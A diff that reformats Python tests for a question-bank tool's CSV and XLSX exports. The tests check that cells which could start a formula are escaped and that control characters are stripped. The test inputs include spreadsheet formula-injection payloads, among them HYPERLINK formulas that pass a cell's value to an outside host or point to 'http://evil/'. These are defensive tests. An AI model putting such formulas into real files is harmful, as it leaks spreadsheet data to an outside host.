@@ -13,8 +13,9 @@ from question_bank.analysis import analyse_items
 from question_bank.analysis_xlsx import analysis_xlsx
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+7 777", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd",
-                                  '=HYPERLINK("http://x/?"&A1,"Open")'])
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+7 777", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("http://x/?"&A1,"Open")']
+)
 def test_a_csv_cell_that_could_start_a_formula_gets_an_apostrophe_and_keeps_its_text(text):
     out = io.StringIO()
     csv.writer(out).writerow(csv_row([text]))
@@ -35,8 +36,10 @@ def test_a_sheet_title_drops_what_excel_refuses():
 
 def test_the_item_analysis_writes_a_question_text_as_text_not_a_formula():
     responses = [{"q0": 0}, {"q0": 1}, {"q0": 0}]
-    data = analysis_xlsx(analyse_items(responses, {"q0": 0}, option_counts={"q0": 4}),
-                         labels={"q0": '=HYPERLINK("http://evil/","Ашу")\x0b2+2\x1d'})
+    data = analysis_xlsx(
+        analyse_items(responses, {"q0": 0}, option_counts={"q0": 4}),
+        labels={"q0": '=HYPERLINK("http://evil/","Ашу")\x0b2+2\x1d'},
+    )
     cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["B2"]
     assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil/","Ашу") 2+2', "s")
 
@@ -47,8 +50,9 @@ def test_bank_exports_carry_no_character_xml_cannot_hold():
     from question_bank.model import Item
     from question_bank.parse import parse_bank
 
-    item = Item(text="Қылмыс\x0bдегеніміз не?\x1d", options=("Әрекет", "Ой\x0c", "Сөз", "Түс"), correct=0,
-                topic="Құқық\x1f")
+    item = Item(
+        text="Қылмыс\x0bдегеніміз не?\x1d", options=("Әрекет", "Ой\x0c", "Сөз", "Түс"), correct=0, topic="Құқық\x1f"
+    )
     for fmt, text in (("gift", export_gift([item])), ("platonus", export_platonus([item]))):
         assert not ILLEGAL.search(text), fmt
         (back,) = parse_bank(text.encode("utf-8"), language="kk", format=fmt).items
